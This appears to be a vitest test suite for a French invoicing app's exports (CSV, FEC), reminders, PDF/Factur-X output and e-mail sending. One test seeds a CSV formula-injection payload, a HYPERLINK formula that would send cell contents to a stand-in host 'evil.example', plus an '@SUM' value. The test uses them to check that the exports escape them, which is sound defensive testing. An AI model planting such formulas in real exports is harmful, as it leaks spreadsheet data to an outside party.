import { readFacturX } from '@relais/documents';
import { entrepriseFields } from '@relais/documents/testing/fixtures';
import { documentTotals, fecColumns } from '@relais/domain';
import type { CollectionName, Envoi, Facture, Ligne } from '@relais/schema';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Doc } from '../replication/documents';
import { addUser, authTestApp, call, signIn, type AuthTestApp } from '../test-support/auth';
import { startSmtpSink, type SmtpSink } from '../test-support/smtp-sink';

let sink: SmtpSink;

beforeAll(async () => {
  sink = await startSmtpSink();
});

afterAll(async () => {
  await sink.close();
});

const terms = { jours: 30, fin_de_mois: false };

function ligne(quantite: number, prix_unitaire_ht: number, taux_tva_bp = 2000): Ligne {
  return { id: crypto.randomUUID(), designation: 'Transport Lyon → Paris', quantite, prix_unitaire_ht, taux_tva_bp };
}

/** Moves the app's clock (sessions, validation day) to 09:00 UTC of a day. */
function setDay(relais: AuthTestApp, day: string): void {
  relais.clock.advance(Date.parse(`${day}T09:00:00.000Z`) - relais.clock.now());
}

function create(relais: AuthTestApp, collection: CollectionName, fields: Record<string, unknown>): Doc {
  const id = crypto.randomUUID();
  const doc = { id, rev: 1, updated_at: new Date(relais.clock.now()).toISOString(), ...fields, _deleted: false };
  const outcome = relais.store.push(collection, [{ newDocumentState: doc }], { actor: 'seed', source: 'import' });
  expect(outcome).toMatchObject({ ok: true, written: 1, refused: [] });
  const stored = relais.store.get(collection, id);
  if (!stored) {
    throw new Error(`${collection} non enregistré`);
  }
  return stored;
}

function entreprise(relais: AuthTestApp, siren: string, raison_sociale: string): Doc {
  return create(relais, 'entreprises', entrepriseFields({ siren, raison_sociale }));
}

/** A customer with only the fields given besides the required ones (a test here sends to one without an email). */
function contact(relais: AuthTestApp, entrepriseId: string, fields: Record<string, unknown>): Doc {
  return create(relais, 'contacts', {
    entreprise_id: entrepriseId,
    type_contact: 'societe',
    adresse_facturation: { ligne1: '2 rue du Quai', code_postal: '69001', ville: 'Lyon' },
    groupe_ids: [],
    is_active: true,
    ...fields,
  });
}

/** A document validated on `day`: the server gives its number, date and due date; returns what it stored. */
function validated(relais: AuthTestApp, day: string, fields: Record<string, unknown>): Facture {
  setDay(relais, day);
  const stored = create(relais, 'factures', { type_facture: 'facture', statut: 'validee', conditions_paiement: terms, regime_tva: 'normale', ...fields });
  expect(stored['date_facture']).toBe(day);
  return stored as unknown as Facture;
}

function reglement(relais: AuthTestApp, facture: Facture, date_reglement: string, montant: number, mode: string, reference?: string): Doc {
  return create(relais, 'reglements', { facture_id: facture.id, date_reglement, montant, mode, ...(reference ? { reference } : {}) });
}

const ttc = (facture: Facture): number => documentTotals(facture.lignes, facture.regime_tva).total_ttc;

/**
 * Transports Nord: fa1 (15/10, due 14/11, partly paid, partly credited: overdue on 27/11), fa4
 * (20/10, paid), fa2 (05/11, paid), fa3 (10/11, due 10/12), av1 (12/11, credits fa1), a draft;
 * Transports Sud: fa6 (08/11). Then the clock goes back to 27/11/2026.
 */
function seed(relais: AuthTestApp) {
  const nord = entreprise(relais, '552100554', 'Transports Nord');
  const sud = entreprise(relais, '732829320', 'Transports Sud');
  const durand = contact(relais, String(nord.id), { nom: 'Durand', prenom: 'Anne', code: 'DUR', siren: '404833048', email: 'compta@durand.test' });
  const martin = contact(relais, String(nord.id), { nom: 'Martin Logistique', email: 'factures@martin.test' });
  const sudClient = contact(relais, String(sud.id), { nom: 'Client du Sud', tva_intracom: 'BE0123456789' });
  const nordId = String(nord.id);
  const fa1 = validated(relais, '2026-10-15', { entreprise_id: nordId, contact_id: durand.id, lignes: [ligne(3, 1999), ligne(1, 10_000, 550)] });
  const fa4 = validated(relais, '2026-10-20', { entreprise_id: nordId, contact_id: martin.id, lignes: [ligne(1, 20_000)] });
  const fa2 = validated(relais, '2026-11-05', { entreprise_id: nordId, contact_id: durand.id, lignes: [ligne(10, 123_456)] });
  const fa6 = validated(relais, '2026-11-08', { entreprise_id: String(sud.id), contact_id: sudClient.id, lignes: [ligne(1, 5_000)] });
  const fa3 = validated(relais, '2026-11-10', { entreprise_id: nordId, contact_id: martin.id, type_facture: 'acompte', lignes: [ligne(2.5, 333)] });
  const av1 = validated(relais, '2026-11-12', {
    entreprise_id: nordId,
    contact_id: durand.id,
    type_facture: 'avoir',
    facture_origine_id: fa1.id,
    lignes: [ligne(-1, 10_000, 550)],
  });
  setDay(relais, '2026-11-15');
  const brouillon = create(relais, 'factures', {
    entreprise_id: nordId,
    contact_id: durand.id,
    type_facture: 'facture',
    statut: 'brouillon',
    conditions_paiement: terms,
    regime_tva: 'normale',
    lignes: [ligne(1, 999)],
  });
  reglement(relais, fa4, '2026-11-02', ttc(fa4), 'virement', 'VIR 77');
  reglement(relais, fa1, '2026-11-03', 5_000, 'cheque', 'CHQ 123');
  reglement(relais, fa2, '2026-11-10', ttc(fa2), 'virement');
  reglement(relais, fa2, '2026-10-31', 1, 'especes');
  setDay(relais, '2026-11-27');
  return { nord, sud, durand, martin, fa1, fa2, fa3, fa4, fa6, av1, brouillon };
}

async function users(relais: AuthTestApp): Promise<{ compta: string; planner: string }> {
  await addUser(relais.auth, { username: 'COMPTA', role: 'finance' });
  await addUser(relais.auth, { username: 'PLANNER', role: 'planner' });
  return { compta: (await signIn(relais.app, 'compta')).token, planner: (await signIn(relais.app, 'planner')).token };
}

/** The body's bytes, its BOM, and the CSV parsed back. */
async function csvOf(response: Response, delimiter: string): Promise<{ bom: boolean; rows: string[][] }> {
  const bytes = new Uint8Array(await response.arrayBuffer());
  const bom = bytes[0] === 0xef && bytes[1] === 0xbb && bytes[2] === 0xbf;
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
  return { bom, rows: parse(text, { delimiter, bom: true }) };
}

const euros = (cents: number, decimal: ',' | '.'): string => `${cents < 0 ? '-' : ''}${Math.trunc(Math.abs(cents) / 100)}${decimal}${String(Math.abs(cents) % 100).padStart(2, '0')}`;

describe('invoicing exports: CSV', () => {
  it('exports the validated invoices of the period with French decimals, a BOM and a file name', async () => {
    const relais = authTestApp();
    const docs = seed(relais);
    const { compta } = await users(relais);
    const response = await call(relais.app, 'GET', `/api/invoicing/exports/factures.csv?du=2026-11-01&au=2026-11-30&entreprise_id=${String(docs.nord.id)}`, { token: compta });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="factures-2026-11-01-2026-11-30.csv"');
    const { bom, rows } = await csvOf(response, ';');
    expect(bom).toBe(true);
    expect(rows[0]).toEqual(['Numéro', 'Type', 'Date', 'Échéance', 'Client', 'SIREN client', 'Montant HT', 'TVA', 'Montant TTC', 'Réglé', 'Reste dû', 'État']);
    // November, Transports Nord only, no draft: fa2, fa3, av1 by date.
    expect(rows.slice(1).map((row) => row[0])).toEqual([docs.fa2.numero, docs.fa3.numero, docs.av1.numero]);
    const fa2 = documentTotals(docs.fa2.lignes);
    expect(rows[1]).toEqual([
      docs.fa2.numero,
      'Facture',
      '05/11/2026',
      '05/12/2026',
      'Anne Durand',
      '404833048',
      euros(fa2.total_ht, ','),
      euros(fa2.total_tva, ','),
      euros(fa2.total_ttc, ','),
      euros(fa2.total_ttc + 1, ','),
      '-0,01',
      'Trop-perçu',
    ]);
    expect(rows[1]?.[8]).toBe('14814,72');
    const fa3 = documentTotals(docs.fa3.lignes);
    expect(rows[2]?.slice(1, 12)).toEqual(['Acompte', '10/11/2026', '10/12/2026', 'Martin Logistique', '', '8,33', '1,67', '10,00', '0,00', '10,00', 'Non payée']);
    expect(fa3.total_ttc).toBe(1000);
    expect(rows[3]?.slice(1, 12)).toEqual(['Avoir', '12/11/2026', '12/12/2026', 'Anne Durand', '404833048', '-100,00', '-5,50', '-105,50', '0,00', '0,00', 'Avoir']);
  });

  it('uses dots and ISO dates with the comma separator, and every company without entreprise_id', async () => {
    const relais = authTestApp();
    const docs = seed(relais);
    const { compta } = await users(relais);
    const response = await call(relais.app, 'GET', '/api/invoicing/exports/factures.csv?du=2026-10-01&au=2026-11-30&separateur=%2C', { token: compta });
    const { bom, rows } = await csvOf(response, ',');
    expect(bom).toBe(true);
    expect(rows.slice(1).map((row) => row[0])).toEqual([docs.fa1, docs.fa4, docs.fa2, docs.fa6, docs.fa3, docs.av1].map((doc) => doc.numero));
    const fa1 = rows[1] ?? [];
    // 177,46 TTC − 105,50 credited − 50,00 paid.
    expect([fa1[2], fa1[3], fa1[8], fa1[9], fa1[10], fa1[11]]).toEqual(['2026-10-15', '2026-11-14', '177.46', '50.00', '21.96', 'Partiellement payée']);
    expect(ttc(docs.fa1)).toBe(17_746);
  });

  it('exports the payments of the period', async () => {
    const relais = authTestApp();
    const docs = seed(relais);
    const { compta } = await users(relais);
    const response = await call(relais.app, 'GET', `/api/invoicing/exports/reglements.csv?du=2026-11-01&au=2026-11-30&entreprise_id=${String(docs.nord.id)}`, { token: compta });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="reglements-2026-11-01-2026-11-30.csv"');
    const { bom, rows } = await csvOf(response, ';');
    expect(bom).toBe(true);
    expect(rows).toEqual([
      ['Date', 'Facture', 'Client', 'Mode', 'Référence', 'Montant'],
      ['02/11/2026', docs.fa4.numero, 'Martin Logistique', 'Virement', 'VIR 77', '240,00'],
      ['03/11/2026', docs.fa1.numero, 'Anne Durand', 'Chèque', 'CHQ 123', '50,00'],
      ['10/11/2026', docs.fa2.numero, 'Anne Durand', 'Virement', '', '14814,72'],
    ]);
  });

  it('refuses bad dates and periods with a French detail, and users without view_invoicing', async () => {
    const relais = authTestApp();
    seed(relais);
    const { compta, planner } = await users(relais);
    const cases: [string, RegExp][] = [
      ['du=2026-11-30&au=2026-11-01', /Période invalide : le début \(2026-11-30\) est après la fin \(2026-11-01\)/],
      ['du=2026-02-30&au=2026-03-01', /Date invalide : 2026-02-30 n’existe pas/],
      ['du=01/11/2026&au=2026-11-30', /du — date attendue au format AAAA-MM-JJ/],
      ['au=2026-11-30', /du/],
      ['du=2026-11-01&au=2026-11-30&separateur=%7C', /séparateur attendu/],
    ];
    for (const [query, detail] of cases) {
      const response = await call(relais.app, 'GET', `/api/invoicing/exports/factures.csv?${query}`, { token: compta });
      expect(response.status, query).toBe(400);
      expect(((await response.json()) as { detail: string }).detail).toMatch(detail);
    }
    for (const path of ['exports/factures.csv?du=2026-11-01&au=2026-11-30', 'exports/reglements.csv?du=2026-11-01&au=2026-11-30', 'relances']) {
      const response = await call(relais.app, 'GET', `/api/invoicing/${path}`, { token: planner });
      expect(response.status, path).toBe(403);
      expect(await response.json()).toMatchObject({ detail: 'Accès refusé : il vous faut le droit « view_invoicing ».' });
    }
    expect((await call(relais.app, 'GET', '/api/invoicing/exports/factures.csv?du=2026-11-01&au=2026-11-30')).status).toBe(401);
  });
});

describe('every export the PWA downloads, with a hostile customer', () => {
  it('writes the name as text in both CSVs and the FEC, amounts (negative ones too) as numbers', async () => {
    const relais = authTestApp();
    const docs = seed(relais);
    const hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    const pirate = contact(relais, String(docs.nord.id), { nom: hostile, code: '-1+1', email: 'pirate@exemple.test' });
    const invoice = validated(relais, '2026-11-20', { entreprise_id: String(docs.nord.id), contact_id: pirate.id, lignes: [ligne(1, 2_500)] });
    validated(relais, '2026-11-21', { entreprise_id: String(docs.nord.id), contact_id: pirate.id, type_facture: 'avoir', facture_origine_id: invoice.id, lignes: [ligne(-1, 1_250)] });
    reglement(relais, invoice, '2026-11-22', 1_500, 'virement', '@SUM(A1)');
    setDay(relais, '2026-11-27');
    const { compta } = await users(relais);
    const query = `du=2026-11-01&au=2026-11-30&entreprise_id=${String(docs.nord.id)}`;
    const factures = (await csvOf(await call(relais.app, 'GET', `/api/invoicing/exports/factures.csv?${query}`, { token: compta }), ';')).rows;
    const reglements = (await csvOf(await call(relais.app, 'GET', `/api/invoicing/exports/reglements.csv?${query}`, { token: compta }), ';')).rows;
    const fec = (await (await call(relais.app, 'GET', `/api/invoicing/exports/fec?${query}`, { token: compta })).text()).split('\r\n').map((line) => line.split('\t'));
    expect(factures.filter((row) => row[4] === `'${hostile}`).map((row) => row.slice(6, 9))).toEqual([
      ['25,00', '5,00', '30,00'],
      ['-12,50', '-2,50', '-15,00'],
    ]);
    expect(reglements.at(-1)).toEqual(['22/11/2026', invoice.numero, `'${hostile}`, 'Virement', "'@SUM(A1)", '15,00']);
    expect(fec.filter((row) => row[7] === `'${hostile}`).length).toBeGreaterThanOrEqual(3);
    // Not one cell of the three files a spreadsheet would run; minus signs only on amounts.
    for (const cell of [...factures, ...reglements, ...fec].flat()) {
      expect(/^[=+@\t\r]/.test(cell) || (cell.startsWith('-') && !/^-\d+,\d\d$/.test(cell)), cell).toBe(false);
    }
  });
});

describe('invoicing exports: FEC', () => {
  it('writes the 18 columns, balanced entries and the totals of documentTotals, named <SIREN>FEC<end>.txt', async () => {
    const relais = authTestApp();
    const docs = seed(relais);
    const { compta, planner } = await users(relais);
    const path = `/api/invoicing/exports/fec?entreprise_id=${String(docs.nord.id)}&du=2026-11-01&au=2026-11-30`;
    const response = await call(relais.app, 'GET', path, { token: compta });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="552100554FEC20261130.txt"');
    const lines = (await response.text()).split('\r\n').filter((line) => line !== '');
    const rows = lines.map((line) => line.split('\t'));
    expect(rows[0]).toEqual([...fecColumns]);
    expect(rows[0]).toEqual(['JournalCode', 'JournalLib', 'EcritureNum', 'EcritureDate', 'CompteNum', 'CompteLib', 'CompAuxNum', 'CompAuxLib', 'PieceRef', 'PieceDate', 'EcritureLib', 'Debit', 'Credit', 'EcritureLet', 'DateLet', 'ValidDate', 'Montantdevise', 'Idevise']);
    const body = rows.slice(1).map((row) => {
      expect(row).toHaveLength(18);
      const [journal = '', , num = '', date = '', compte = '', , aux = '', , piece = '', , , debit = '', credit = ''] = row;
      expect(date).toMatch(/^202611\d\d$/);
      const cents = (amount: string): number => {
        expect(amount).toMatch(/^\d+,\d\d$/);
        return Number(amount.replace(',', ''));
      };
      return { journal, num: Number(num), compte, aux, piece, debit: cents(debit), credit: cents(credit) };
    });
    // Entries numbered 1…n without gap; each balanced.
    const nums = [...new Set(body.map((line) => line.num))];
    expect(nums).toEqual(nums.map((_, index) => index + 1));
    for (const num of nums) {
      const entry = body.filter((line) => line.num === num);
      expect(entry.reduce((sum, line) => sum + line.debit, 0), `écriture ${num}`).toBe(entry.reduce((sum, line) => sum + line.credit, 0));
    }
    // Sales: fa2, fa3 and the credit note of November; payments: fa4 (02/11), fa1 (03/11), fa2 (10/11).
    const entryOf = (journal: string, piece: string | undefined) => body.filter((line) => line.journal === journal && line.piece === piece);
    // A deposit invoice's base goes to deposits received (4191), not to sales.
    for (const [facture, sales] of [[docs.fa2, '706000'], [docs.fa3, '419100']] as const) {
      const totals = documentTotals(facture.lignes);
      const entry = entryOf('VT', facture.numero);
      const side = (compte: string, key: 'debit' | 'credit'): number => entry.filter((line) => line.compte === compte).reduce((sum, line) => sum + line[key], 0);
      expect([side('411000', 'debit'), side(sales, 'credit'), side('445710', 'credit')]).toEqual([totals.total_ttc, totals.total_ht, totals.total_tva]);
    }
    const avoir = entryOf('VT', docs.av1.numero);
    const avoirTotals = documentTotals(docs.av1.lignes);
    expect(avoir.map((line) => [line.compte, line.debit, line.credit])).toEqual([
      ['411000', 0, -avoirTotals.total_ttc],
      ['706000', -avoirTotals.total_ht, 0],
      ['445710', -avoirTotals.total_tva, 0],
    ]);
    expect(entryOf('VT', docs.fa2.numero)[0]?.aux).toBe('DUR');
    expect(entryOf('BQ', docs.fa1.numero).map((line) => [line.compte, line.debit, line.credit])).toEqual([
      ['512000', 5_000, 0],
      ['411000', 0, 5_000],
    ]);
    // In date order, sales before payments on the same day; nothing of October, of the draft, nor of the other company.
    expect([...new Set(body.map((line) => `${line.num} ${line.journal} ${line.piece}`))]).toEqual([
      `1 BQ ${docs.fa4.numero ?? ''}`,
      `2 BQ ${docs.fa1.numero ?? ''}`,
      `3 VT ${docs.fa2.numero ?? ''}`,
      `4 VT ${docs.fa3.numero ?? ''}`,
      `5 BQ ${docs.fa2.numero ?? ''}`,
      `6 VT ${docs.av1.numero ?? ''}`,
    ]);

    expect((await call(relais.app, 'GET', path, { token: planner })).status).toBe(403);
    const missing = await call(relais.app, 'GET', '/api/invoicing/exports/fec?du=2026-11-01&au=2026-11-30', { token: compta });
    expect(missing.status).toBe(400);
    const unknown = await call(relais.app, 'GET', `/api/invoicing/exports/fec?entreprise_id=${crypto.randomUUID()}&du=2026-11-01&au=2026-11-30`, { token: compta });
    expect(unknown.status).toBe(404);
    expect(((await unknown.json()) as { detail: string }).detail).toBe('Entreprise introuvable.');
  });
});

describe('reminders', () => {
  it('lists the overdue invoices, not the paid nor those not yet due, the latest first', async () => {
    const relais = authTestApp();
    const docs = seed(relais);
    const { compta } = await users(relais);
    const today = (await (await call(relais.app, 'GET', '/api/invoicing/relances', { token: compta })).json()) as {
      date: string;
      items: { facture_id: string; numero: string; client: string; email: string | null; date_echeance: string; jours_retard: number; reste_du: number; etat: string }[];
    };
    expect(today.date).toBe('2026-11-27');
    expect(today.items).toEqual([
      expect.objectContaining({
        facture_id: docs.fa1.id,
        numero: docs.fa1.numero,
        client: 'Anne Durand',
        email: 'compta@durand.test',
        date_echeance: '2026-11-14',
        jours_retard: 13,
        reste_du: 2_196,
        etat: 'partiellement_payee',
      }),
    ]);
    const later = (await (await call(relais.app, 'GET', '/api/invoicing/relances?date=2026-12-15', { token: compta })).json()) as typeof today;
    expect(later.items.map((item) => [item.numero, item.jours_retard])).toEqual([
      [docs.fa1.numero, 31],
      [docs.fa6.numero, 7],
      [docs.fa3.numero, 5],
    ]);
    const nord = (await (await call(relais.app, 'GET', `/api/invoicing/relances?date=2026-12-15&entreprise_id=${String(docs.nord.id)}`, { token: compta })).json()) as typeof today;
    expect(nord.items.map((item) => item.numero)).toEqual([docs.fa1.numero, docs.fa3.numero]);
    expect((await call(relais.app, 'GET', '/api/invoicing/relances?date=2026-13-01', { token: compta })).status).toBe(400);
  });
});

describe('PDF on the server', () => {
  it('answers the PDF of a quote or an invoice, named after its number; 404 unknown, 403 without view_invoicing', async () => {
    const relais = authTestApp();
    const docs = seed(relais);
    const { compta, planner } = await users(relais);
    const response = await call(relais.app, 'GET', `/api/invoicing/factures/${docs.fa2.id}/pdf`, { token: compta });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('application/pdf');
    expect(response.headers.get('content-disposition')).toBe(`attachment; filename="${docs.fa2.numero ?? ''}.pdf"`);
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect(new TextDecoder('latin1').decode(bytes.subarray(0, 5))).toBe('%PDF-');
    expect(bytes.length).toBeGreaterThan(5_000);
    expect((await call(relais.app, 'GET', `/api/invoicing/factures/${crypto.randomUUID()}/pdf`, { token: compta })).status).toBe(404);
    expect((await call(relais.app, 'GET', `/api/invoicing/factures/${docs.fa2.id}/pdf`, { token: planner })).status).toBe(403);
  });

  it('answers a Factur-X for validated invoices, deposit invoices and credit notes (the XML route gives the same XML), a plain PDF for a draft', async () => {
    const relais = authTestApp();
    const docs = seed(relais);
    const { compta, planner } = await users(relais);
    for (const doc of [docs.fa2, docs.fa3, docs.av1]) {
      const pdf = await call(relais.app, 'GET', `/api/invoicing/factures/${doc.id}/pdf`, { token: compta });
      expect(pdf.status).toBe(200);
      const content = await readFacturX(new Uint8Array(await pdf.arrayBuffer()));
      expect(content?.relationship).toBe('Alternative');
      expect(content?.xmp).toContain('<fx:DocumentFileName>factur-x.xml</fx:DocumentFileName>');
      const xml = await call(relais.app, 'GET', `/api/invoicing/factures/${doc.id}/facturx.xml`, { token: compta });
      expect(xml.status).toBe(200);
      expect(xml.headers.get('content-type')).toBe('application/xml; charset=utf-8');
      expect(xml.headers.get('content-disposition')).toBe(`attachment; filename="${doc.numero ?? ''}-factur-x.xml"`);
      const xmlBytes = Buffer.from(await xml.arrayBuffer());
      expect(xmlBytes.equals(Buffer.from(content?.xml ?? []))).toBe(true);
      expect(xmlBytes.toString('utf8')).toContain(doc.numero ?? 'sans numéro');
    }

    const draftPdf = await call(relais.app, 'GET', `/api/invoicing/factures/${String(docs.brouillon.id)}/pdf`, { token: compta });
    expect(draftPdf.status).toBe(200);
    expect(await readFacturX(new Uint8Array(await draftPdf.arrayBuffer()))).toBeUndefined();
    const draftXml = await call(relais.app, 'GET', `/api/invoicing/factures/${String(docs.brouillon.id)}/facturx.xml`, { token: compta });
    expect(draftXml.status).toBe(409);
    expect(((await draftXml.json()) as { detail: string }).detail).toBe('Cette facture est un brouillon : le XML Factur-X n’existe qu’une fois la facture validée.');
    expect((await call(relais.app, 'GET', `/api/invoicing/factures/${crypto.randomUUID()}/facturx.xml`, { token: compta })).status).toBe(404);
    expect((await call(relais.app, 'GET', `/api/invoicing/factures/${docs.fa2.id}/facturx.xml`, { token: planner })).status).toBe(403);
  });
});

describe('sending by e-mail', () => {
  it('sends a validated invoice with its PDF to the customer and records the sending', async () => {
    const relais = authTestApp({ mailer: sink.mailer });
    const docs = seed(relais);
    const { compta } = await users(relais);
    const before = sink.received.length;
    const response = await call(relais.app, 'POST', `/api/invoicing/factures/${docs.fa2.id}/envoyer`, { token: compta, body: { message: 'Merci pour votre confiance.' } });
    expect(response.status).toBe(200);
    const { envois } = (await response.json()) as { envois: Envoi[] };
    expect(envois).toEqual([{ at: '2026-11-27T09:00:00.000Z', destinataires: 'compta@durand.test', par: 'COMPTA' }]);
    expect(relais.store.get('factures', docs.fa2.id)?.['envois']).toEqual(envois);
    const mails = sink.received.slice(before);
    expect(mails.map((mail) => [mail.to, mail.subject])).toEqual([[['compta@durand.test'], `Facture ${docs.fa2.numero ?? ''} — Transports Nord`]]);
    expect(mails[0]?.text).toContain('Merci pour votre confiance.');
    expect(mails[0]?.text).toContain(`notre facture ${docs.fa2.numero ?? ''} du 05/11/2026`);
    expect(mails[0]?.text).toContain('à régler au plus tard le 05/12/2026');
    expect(mails[0]?.attachments.map((file) => [file.filename, file.contentType])).toEqual([[`${docs.fa2.numero ?? ''}.pdf`, 'application/pdf']]);
    expect(mails[0]?.attachments[0]?.content.subarray(0, 5).toString('latin1')).toBe('%PDF-');
    // The attachment is the Factur-X, the one the PDF route gives.
    const attached = await readFacturX(new Uint8Array(mails[0]?.attachments[0]?.content ?? []));
    expect(new TextDecoder().decode(attached?.xml)).toContain(docs.fa2.numero ?? 'sans numéro');

    // A second sending, to chosen addresses, is appended; the number and amounts stay.
    const again = await call(relais.app, 'POST', `/api/invoicing/factures/${docs.fa2.id}/envoyer`, { token: compta, body: { destinataires: ['a@durand.test', 'b@durand.test'] } });
    expect(again.status).toBe(200);
    const stored = relais.store.get('factures', docs.fa2.id);
    expect((stored?.['envois'] as Envoi[]).map((envoi) => envoi.destinataires)).toEqual(['compta@durand.test', 'a@durand.test, b@durand.test']);
    expect(stored?.['numero']).toBe(docs.fa2.numero);
    expect(sink.received.slice(before + 1).map((mail) => mail.to)).toEqual([['a@durand.test', 'b@durand.test']]);
  });

  it('sends a quote and an avoir', async () => {
    const relais = authTestApp({ mailer: sink.mailer });
    const docs = seed(relais);
    const { compta } = await users(relais);
    const devis = create(relais, 'devis', {
      entreprise_id: String(docs.nord.id),
      contact_id: docs.martin.id,
      statut: 'brouillon',
      date_devis: '2026-11-27',
      date_validite: '2026-12-27',
      lignes: [ligne(1, 50_000)],
      regime_tva: 'normale',
    });
    const before = sink.received.length;
    const response = await call(relais.app, 'POST', `/api/invoicing/devis/${String(devis.id)}/envoyer`, { token: compta });
    expect(response.status).toBe(200);
    expect(((await response.json()) as { envois: Envoi[] }).envois).toHaveLength(1);
    // A draft quote sent by e-mail is a sent quote.
    expect(relais.store.get('devis', String(devis.id))?.['statut']).toBe('envoye');
    const avoir = await call(relais.app, 'POST', `/api/invoicing/factures/${docs.av1.id}/envoyer`, { token: compta, body: {} });
    expect(avoir.status).toBe(200);
    const mails = sink.received.slice(before);
    expect(mails.map((mail) => [mail.to, mail.subject, mail.attachments[0]?.filename])).toEqual([
      [['factures@martin.test'], `Devis ${String(devis['numero'])} — Transports Nord`, `${String(devis['numero'])}.pdf`],
      [['compta@durand.test'], `Avoir ${docs.av1.numero ?? ''} — Transports Nord`, `${docs.av1.numero ?? ''}.pdf`],
    ]);
    expect(mails[0]?.text).toContain('600,00');
    expect(mails[0]?.text).toContain('valable jusqu’au 27/12/2026');
  });

  it('records nothing when the mail server refuses, refuses drafts, and needs a mailer and manage_invoicing', async () => {
    const relais = authTestApp({ mailer: sink.mailer });
    const docs = seed(relais);
    const { compta, planner } = await users(relais);
    const refused = await call(relais.app, 'POST', `/api/invoicing/factures/${docs.fa2.id}/envoyer`, { token: compta, body: { destinataires: ['compta@refuse.test'] } });
    expect(refused.status).toBe(502);
    expect(((await refused.json()) as { detail: string }).detail).toMatch(/^Le serveur de messagerie a refusé l’envoi/);
    expect(relais.store.get('factures', docs.fa2.id)?.['envois']).toBeUndefined();
    expect(relais.store.get('factures', docs.fa2.id)?.['rev']).toBe(docs.fa2.rev);

    const draft = await call(relais.app, 'POST', `/api/invoicing/factures/${String(docs.brouillon.id)}/envoyer`, { token: compta });
    expect(draft.status).toBe(409);
    expect(((await draft.json()) as { detail: string }).detail).toBe('Cette facture est un brouillon : validez-la avant de l’envoyer.');

    const forbidden = await call(relais.app, 'POST', `/api/invoicing/factures/${docs.fa2.id}/envoyer`, { token: planner });
    expect(forbidden.status).toBe(403);
    expect(await forbidden.json()).toMatchObject({ detail: 'Accès refusé : il vous faut le droit « manage_invoicing ».' });

    const noEmail = await call(relais.app, 'POST', `/api/invoicing/factures/${docs.fa6.id}/envoyer`, { token: compta });
    expect(noEmail.status).toBe(400);
    expect(((await noEmail.json()) as { detail: string }).detail).toMatch(/Aucun destinataire/);
    const badAddress = await call(relais.app, 'POST', `/api/invoicing/factures/${docs.fa2.id}/envoyer`, { token: compta, body: { destinataires: ['pas une adresse'] } });
    expect(badAddress.status).toBe(400);
    expect((await call(relais.app, 'POST', `/api/invoicing/factures/${crypto.randomUUID()}/envoyer`, { token: compta })).status).toBe(404);

    const withoutMailer = authTestApp();
    const seeded = seed(withoutMailer);
    const token = (await users(withoutMailer)).compta;
    const unavailable = await call(withoutMailer.app, 'POST', `/api/invoicing/factures/${seeded.fa2.id}/envoyer`, { token });
    expect(unavailable.status).toBe(503);
    expect(((await unavailable.json()) as { detail: string }).detail).toMatch(/n'est pas configuré/);
    expect(withoutMailer.store.get('factures', seeded.fa2.id)?.['envois']).toBeUndefined();
    expect(sink.received.some((mail) => mail.to.includes('compta@refuse.test'))).toBe(false);
  });
});
